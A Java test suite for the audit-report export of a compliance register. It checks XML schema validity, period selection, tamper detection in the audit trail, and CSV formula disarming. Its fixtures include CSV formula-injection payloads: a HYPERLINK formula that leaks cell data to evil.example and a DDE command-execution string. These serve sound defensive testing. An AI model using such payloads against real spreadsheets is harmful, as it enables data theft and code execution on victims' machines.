package io.annexa.api;

import static org.assertj.core.api.Assertions.assertThat;

import io.annexa.control.xml.SafeXml;
import io.annexa.evaluation.RuleDefinition;
import io.annexa.evaluation.Severity;
import io.annexa.register.ActionRequest;
import io.annexa.register.AuditTrail;
import io.annexa.register.LifecycleAction;
import io.annexa.register.Nonconformity;
import io.annexa.register.NonconformityStatus;
import io.annexa.register.TestDatabase;
import io.annexa.register.policy.AssetInventory;
import io.annexa.register.policy.AssetRecord;
import io.annexa.register.policy.Criticality;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.transform.stream.StreamSource;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;

/**
 * The audit report written from a real register (Flyway, nonconformities raised by evaluation results and treated
 * through the lifecycle): the XML is valid against the schema Annexa publishes, the CSV reads back cell for cell with
 * formulas disarmed, the period selects what was active in it, and a tampered history shows in the header; on H2 and on
 * PostgreSQL.
 */
class AuditReportTest {

    @Nested
    class OnH2 extends Contract {
        @Override
        TestDatabase createDatabase(Path directory) {
            return TestDatabase.h2(directory);
        }
    }

    @Nested
    class OnPostgreSql extends Contract {
        @Override
        TestDatabase createDatabase(Path directory) throws Exception {
            return TestDatabase.postgres();
        }
    }

    abstract static class Contract {

        private static final Instant NOW = Instant.parse("2026-03-01T10:00:00Z");
        private static final Instant LAST_YEAR = Instant.parse("2025-06-01T00:00:00Z");
        private static final String SCHEMA_URL = "http://localhost:8080/api/schemas/audit-report-1.xsd";
        private static final String NS = AuditReportXml.NS;

        private static final String TITLE = "SSH does not let \"root\" log in, directly";
        private static final String OWNER = "=HYPERLINK(\"http://evil.example/?\"&A1,\"owner\")";
        private static final String ACK_COMMENT = "seen, \"we're on it\"\nsecond line";
        private static final String HOSTILE_EVIDENCE = "=cmd|' /C calc'!A0 in /etc/pam.d/sshd:3, bell \u0007 here\nnext line";
        private static final String JUSTIFICATION = "+1 compensating control: \"jump host\", see RISK-7";

        @TempDir
        Path directory;

        private TestDatabase database;
        private RegisterFixture fixture;
        private Nonconformity rootLogin;
        private Nonconformity pam;
        private Nonconformity closedLastYear;

        abstract TestDatabase createDatabase(Path directory) throws Exception;

        @BeforeEach
        void register() throws Exception {
            database = createDatabase(directory);
            AssetInventory inventory = new AssetInventory(List.of(
                    new AssetRecord("web-01.sample", OWNER, Criticality.HIGH, "internal", List.of("web"), false)));
            fixture = new RegisterFixture(database.settings(), inventory, LAST_YEAR);
            RuleDefinition rootRule = fixture.rule("sshd_root_login_disabled", TITLE, Severity.HIGH, "8.5", "8.2");
            RuleDefinition pamRule = fixture.rule("pam_faillock_enabled", "PAM locks accounts", Severity.MEDIUM, "8.5");
            RuleDefinition oldRule = fixture.rule("sshd_max_auth_tries_limited", "Few tries", Severity.LOW, "8.5");

            // last year: opened, fixed, closed after the effectiveness period
            fixture.evaluate(List.of(RegisterFixture.finding(oldRule, "old-01", "MaxAuthTries 10")));
            fixture.clock.advance(Duration.ofHours(1));
            fixture.evaluate(List.of(), "old-01");
            fixture.clock.advance(Duration.ofDays(8));
            fixture.register.tick();
            closedLastYear = only(fixture.repository.activeDuring(LAST_YEAR, LAST_YEAR.plus(Duration.ofDays(30)), 10));
            assertThat(closedLastYear.getStatus()).isEqualTo(NonconformityStatus.CLOSED);

            fixture.clock.set(NOW);
            fixture.evaluate(List.of(RegisterFixture.finding(rootRule, "web-01.sample", "root may log in: PermitRootLogin yes (web-01:4)"),
                    RegisterFixture.finding(pamRule, "db-01", HOSTILE_EVIDENCE)));
            rootLogin = find("sshd_root_login_disabled");
            pam = find("pam_faillock_enabled");
            fixture.act(rootLogin.getId(), LifecycleAction.ACKNOWLEDGE, ActionRequest.comment(ACK_COMMENT), "alice");
            rootLogin = fixture.act(rootLogin.getId(), LifecycleAction.PLAN, RegisterFixture.plan(null, "-1+1 root cause",
                    "@SUM(1)", "+cmd corrective", NOW.plus(Duration.ofDays(30))), "alice");
            pam = fixture.act(pam.getId(), LifecycleAction.ACCEPT_RISK, RegisterFixture.acceptRisk("bob", JUSTIFICATION,
                    NOW.plus(Duration.ofDays(90))), "alice");
        }

        @AfterEach
        void close() throws Exception {
            try {
                fixture.close();
            } finally {
                database.drop();
            }
        }

        // ---------------------------------------------------------------- XML

        @Test
        void xmlValidatesAgainstThePublishedSchemaAndHoldsTheTreatmentAndHistory() throws Exception {
            String xml = xml(year2026());
            validate(xml);
            assertThat(xml).contains(NS + " " + SCHEMA_URL);

            Element root = parse(xml).getDocumentElement();
            assertThat(root.getLocalName()).isEqualTo("auditReport");
            assertThat(root.getNamespaceURI()).isEqualTo(NS);
            assertThat(root.getAttribute("from")).isEqualTo("2026-01-01T00:00:00Z");
            assertThat(root.getAttribute("to")).isEqualTo("2027-01-01T00:00:00Z");
            assertThat(root.getAttribute("generatedBy")).isEqualTo("carol");
            Element trail = only(children(root, "auditTrail"));
            assertThat(trail.getAttribute("valid")).isEqualTo("true");
            assertThat(Long.parseLong(trail.getAttribute("entries"))).isEqualTo(fixture.repository.verifyAuditTrail().entries())
                    .isGreaterThanOrEqualTo(7);
            assertThat(trail.hasAttribute("firstBroken")).isFalse();

            List<Element> rows = children(root, "nonconformity");
            assertThat(rows).extracting(e -> Long.parseLong(e.getAttribute("id")))
                    .containsExactly(Math.min(rootLogin.getId(), pam.getId()), Math.max(rootLogin.getId(), pam.getId()));

            Element root1 = byRule(rows, "sshd_root_login_disabled");
            Element risked = byRule(rows, "pam_faillock_enabled");
            assertThat(root1.getAttribute("ruleId")).isEqualTo("sshd_root_login_disabled");
            assertThat(root1.getAttribute("control")).isEqualTo("8.5");
            assertThat(root1.getAttribute("annexA")).isEqualTo("A.8.5");
            assertThat(root1.getAttribute("theme")).isEqualTo("technological");
            assertThat(root1.getAttribute("asset")).isEqualTo("web-01.sample");
            assertThat(root1.getAttribute("severity")).isEqualTo("high");
            assertThat(root1.getAttribute("grade")).isEqualTo(rootLogin.getGrade());
            assertThat(root1.getAttribute("status")).isEqualTo("action-planned");
            assertThat(root1.getAttribute("incident")).isEqualTo("false");
            assertThat(Instant.parse(root1.getAttribute("firstSeen"))).isEqualTo(NOW);
            assertThat(Instant.parse(root1.getAttribute("dueAt"))).isEqualTo(NOW.plus(Duration.ofDays(30)));
            assertThat(root1.hasAttribute("resolvedAt")).isFalse();
            assertThat(root1.getAttribute("occurrences")).isEqualTo("1");
            assertThat(text(root1, "ruleTitle")).isEqualTo(TITLE);
            assertThat(children(root1, "citedControl")).extracting(Element::getTextContent).containsExactly("8.5", "8.2");
            assertThat(children(root1, "clause")).extracting(Element::getTextContent).containsExactly("6.1.3", "8.1");
            assertThat(text(root1, "owner")).isEqualTo(OWNER);
            assertThat(text(root1, "rootCause")).isEqualTo("-1+1 root cause");
            assertThat(text(root1, "correctiveAction")).isEqualTo("+cmd corrective");
            assertThat(children(root1, "riskAcceptance")).isEmpty();
            List<Element> history = children(only(children(root1, "history")), "entry");
            assertThat(history).extracting(e -> e.getAttribute("action")).containsExactly("open", "acknowledge", "plan");
            assertThat(history).extracting(e -> e.getAttribute("actor")).containsExactly("system", "alice", "alice");
            assertThat(history.get(1).getAttribute("from")).isEqualTo("open");
            assertThat(history.get(1).getAttribute("to")).isEqualTo("acknowledged");
            assertThat(text(history.get(1), "comment")).isEqualTo(ACK_COMMENT);
            assertThat(history.get(2).getAttribute("bodyHash")).isEqualTo("a".repeat(64));
            assertThat(history).allSatisfy(e -> assertThat(e.getAttribute("hash")).matches("[0-9a-f]{64}"));
            assertThat(history.get(0).hasAttribute("bodyHash")).isFalse();

            Element risk = only(children(risked, "riskAcceptance"));
            assertThat(risked.getAttribute("status")).isEqualTo("risk-accepted");
            assertThat(risk.getAttribute("requestedBy")).isEqualTo("bob");
            assertThat(risk.getAttribute("approver")).isEqualTo("alice");
            assertThat(Instant.parse(risk.getAttribute("expiresAt"))).isEqualTo(NOW.plus(Duration.ofDays(90)));
            assertThat(text(risk, "justification")).isEqualTo(JUSTIFICATION);
            assertThat(children(risked, "owner")).isEmpty();
            // a control character from hostile evidence cannot make the report unreadable
            assertThat(text(risked, "evidenceSummary")).isEqualTo(HOSTILE_EVIDENCE.replace('\u0007', '\uFFFD'));
        }

        @Test
        void thePeriodSelectsWhatWasActiveInItWithItsWholeHistory() throws Exception {
            AuditPeriod june = AuditPeriod.parse("2025-06-01", "2025-06-30");
            String xml = xml(june);
            validate(xml);

            Element row = only(children(parse(xml).getDocumentElement(), "nonconformity"));
            assertThat(Long.parseLong(row.getAttribute("id"))).isEqualTo(closedLastYear.getId());
            assertThat(row.getAttribute("status")).isEqualTo("closed");
            assertThat(Instant.parse(row.getAttribute("closedAt"))).isEqualTo(closedLastYear.getClosedAt());
            assertThat(Instant.parse(row.getAttribute("resolvedAt"))).isEqualTo(closedLastYear.getResolvedAt());
            assertThat(children(only(children(row, "history")), "entry")).extracting(e -> e.getAttribute("action"))
                    .containsExactly("open", "resolve", "close");

            // nothing was active before anything was raised: a valid, empty report
            String empty = xml(AuditPeriod.parse("2024-01-01", "2024-12-31"));
            validate(empty);
            assertThat(children(parse(empty).getDocumentElement(), "nonconformity")).isEmpty();
        }

        @Test
        void aLongPeriodIsReadPageByPageAndListsExactlyWhatTheRegisterFinds() throws Exception {
            RuleDefinition rule = fixture.rule("sshd_password_authentication_disabled", "No passwords", Severity.HIGH, "8.5");
            int pageSize = 7;
            // with the two of this year, exactly three full pages: the last page is full and the next one empty
            fixture.evaluate(IntStream.range(0, pageSize * 3 - 2)
                    .mapToObj(i -> RegisterFixture.finding(rule, "host-%04d".formatted(i), "PasswordAuthentication yes")).toList());
            AuditPeriod period = year2026();
            List<Long> expected = fixture.repository.activeDuring(period.from(), period.to(), AuditReport.MAX_ROWS).stream()
                    .map(Nonconformity::getId).toList();
            assertThat(expected).hasSize(pageSize * 3);

            for (int size : new int[] {pageSize, pageSize * 3 + 1, AuditReport.PAGE}) {
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                AuditReport.write(fixture.repository, header(period, fixture.repository.verifyAuditTrail()),
                        new AuditReportXml(out, SCHEMA_URL), size);
                String xml = out.toString(StandardCharsets.UTF_8);
                validate(xml);
                assertThat(children(parse(xml).getDocumentElement(), "nonconformity"))
                        .extracting(e -> Long.parseLong(e.getAttribute("id"))).as("pages of %d", size)
                        .containsExactlyElementsOf(expected);
            }
            assertThat(fixture.repository.countActiveDuring(period.from(), period.to())).isEqualTo(expected.size());
            assertThat(fixture.repository.countActiveDuring(LAST_YEAR, LAST_YEAR.plus(Duration.ofDays(30)))).isEqualTo(1);
        }

        @Test
        void aTamperedHistoryIsNamedInTheHeaderOfBothFormats() throws Exception {
            try (Connection sql = DriverManager.getConnection(fixture.database.url(), fixture.database.user(), fixture.database.password())) {
                sql.createStatement().executeUpdate("update audit_entry set comment = 'nothing to see' where id = 2");
            }
            AuditTrail.Verification verification = fixture.repository.verifyAuditTrail();
            assertThat(verification.valid()).isFalse();
            assertThat(verification.firstBroken()).isEqualTo(2L);

            String xml = xml(year2026(), verification);
            validate(xml);
            Element trail = only(children(parse(xml).getDocumentElement(), "auditTrail"));
            assertThat(trail.getAttribute("valid")).isEqualTo("false");
            assertThat(trail.getAttribute("firstBroken")).isEqualTo("2");

            try (CSVParser csv = parseCsv(csv(year2026(), verification))) {
                assertThat(csv.getHeaderComment()).contains("audit trail: BROKEN at entry 2").contains("cannot be trusted");
            }
        }

        // ---------------------------------------------------------------- CSV

        @Test
        void csvHasOneRowPerNonconformityQuotedAndWithFormulasDisarmed() throws IOException {
            try (CSVParser csv = parseCsv(csv(year2026(), fixture.repository.verifyAuditTrail()))) {
                assertThat(csv.getHeaderNames()).containsExactly(AuditReportCsv.HEADER);
                assertThat(csv.getHeaderComment())
                        .contains("nonconformities active from 2026-01-01T00:00:00Z to 2027-01-01T00:00:00Z")
                        .contains("by carol")
                        .contains("audit trail: valid");
                List<CSVRecord> rows = csv.getRecords();
                assertThat(rows).extracting(r -> Long.parseLong(r.get("id")))
                        .containsExactly(Math.min(rootLogin.getId(), pam.getId()), Math.max(rootLogin.getId(), pam.getId()));
                assertThat(rows).allSatisfy(r -> assertThat(r.size()).isEqualTo(AuditReportCsv.HEADER.length));

                CSVRecord root = rows.stream().filter(r -> r.get("rule_id").equals("sshd_root_login_disabled")).findFirst().orElseThrow();
                assertThat(root.get("rule_title")).isEqualTo(TITLE);
                assertThat(root.get("controls")).isEqualTo("8.5; 8.2");
                assertThat(root.get("clauses")).isEqualTo("6.1.3; 8.1");
                assertThat(root.get("annex_a")).isEqualTo("A.8.5");
                assertThat(root.get("status")).isEqualTo("action-planned");
                assertThat(root.get("incident")).isEqualTo("no");
                assertThat(root.get("first_seen")).isEqualTo(NOW.toString());
                assertThat(root.get("resolved_at")).isEmpty();
                assertThat(root.get("owner")).isEqualTo("'" + OWNER);
                assertThat(root.get("root_cause")).isEqualTo("'-1+1 root cause");
                assertThat(root.get("correction")).isEqualTo("'@SUM(1)");
                assertThat(root.get("corrective_action")).isEqualTo("'+cmd corrective");
                assertThat(root.get("due_at")).isEqualTo(NOW.plus(Duration.ofDays(30)).toString());
                assertThat(root.get("history_entries")).isEqualTo("3");
                assertThat(root.get("last_action")).isEqualTo("plan");
                assertThat(root.get("last_action_by")).isEqualTo("alice");
                assertThat(root.get("last_action_at")).isEqualTo(NOW.toString());

                CSVRecord risk = rows.stream().filter(r -> r.get("rule_id").equals("pam_faillock_enabled")).findFirst().orElseThrow();
                assertThat(risk.get("evidence_summary")).isEqualTo("'" + HOSTILE_EVIDENCE);
                assertThat(risk.get("risk_justification")).isEqualTo("'" + JUSTIFICATION);
                assertThat(risk.get("risk_requested_by")).isEqualTo("bob");
                assertThat(risk.get("risk_approver")).isEqualTo("alice");
                assertThat(risk.get("owner")).isEmpty();
                assertThat(risk.get("status")).isEqualTo("risk-accepted");
            }
        }

        // ---------------------------------------------------------------- helpers

        private static AuditPeriod year2026() {
            return AuditPeriod.parse("2026-01-01", "2026-12-31");
        }

        private String xml(AuditPeriod period) throws IOException {
            return xml(period, fixture.repository.verifyAuditTrail());
        }

        private String xml(AuditPeriod period, AuditTrail.Verification verification) throws IOException {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            AuditReport.write(fixture.repository, header(period, verification), new AuditReportXml(out, SCHEMA_URL));
            return out.toString(StandardCharsets.UTF_8);
        }

        private String csv(AuditPeriod period, AuditTrail.Verification verification) throws IOException {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            AuditReport.write(fixture.repository, header(period, verification), new AuditReportCsv(out));
            return out.toString(StandardCharsets.UTF_8);
        }

        private static AuditReport.Header header(AuditPeriod period, AuditTrail.Verification verification) {
            return new AuditReport.Header(period, NOW.plus(Duration.ofMinutes(5)), "carol", verification);
        }

        private static CSVParser parseCsv(String csv) throws IOException {
            return CSVParser.parse(csv, AuditReportCsv.FORMAT.builder().setHeader().setSkipHeaderRecord(true).get());
        }

        private Nonconformity find(String ruleId) {
            return fixture.repository.findActive().stream().filter(nc -> nc.getRuleId().equals(ruleId)).findFirst().orElseThrow();
        }

        /** Validated with the schema as the application publishes it: the class path resource SchemaResource serves. */
        static void validate(String xml) throws Exception {
            SafeXml.schema(SchemaResource.class.getResource("/schemas/" + AuditReportXml.SCHEMA)).newValidator()
                    .validate(new StreamSource(new StringReader(xml)));
        }

        private static Document parse(String xml) throws Exception {
            DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
            factory.setNamespaceAware(true);
            factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
            return factory.newDocumentBuilder().parse(new InputSource(new StringReader(xml)));
        }

        private static List<Element> children(Element parent, String name) {
            List<Element> found = new ArrayList<>();
            NodeList nodes = parent.getChildNodes();
            for (int i = 0; i < nodes.getLength(); i++) {
                if (nodes.item(i) instanceof Element e && NS.equals(e.getNamespaceURI()) && name.equals(e.getLocalName())) {
                    found.add(e);
                }
            }
            return found;
        }

        private static Element byRule(List<Element> rows, String ruleId) {
            return only(rows.stream().filter(e -> e.getAttribute("ruleId").equals(ruleId)).toList());
        }

        private static String text(Element parent, String name) {
            return only(children(parent, name)).getTextContent();
        }

        private static <T> T only(List<T> items) {
            assertThat(items).hasSize(1);
            return items.get(0);
        }
    }
}
